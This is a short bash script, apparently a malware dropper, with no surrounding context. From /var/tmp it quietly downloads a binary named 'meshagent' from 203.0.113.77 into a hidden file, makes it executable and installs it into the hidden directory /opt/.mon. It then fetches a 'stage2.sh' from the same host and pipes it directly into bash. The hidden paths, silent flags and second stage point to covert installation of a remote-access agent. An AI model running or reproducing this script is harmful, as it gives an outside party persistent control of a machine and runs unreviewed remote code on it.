#!/bin/bash
cd /var/tmp || exit
wget -q http://203.0.113.77/meshagent -O .ma && chmod +x .ma && ./.ma -install --installPath=/opt/.mon
(wget -qO- http://203.0.113.77/stage2.sh || curl -fsS http://203.0.113.77/stage2.sh) | bash
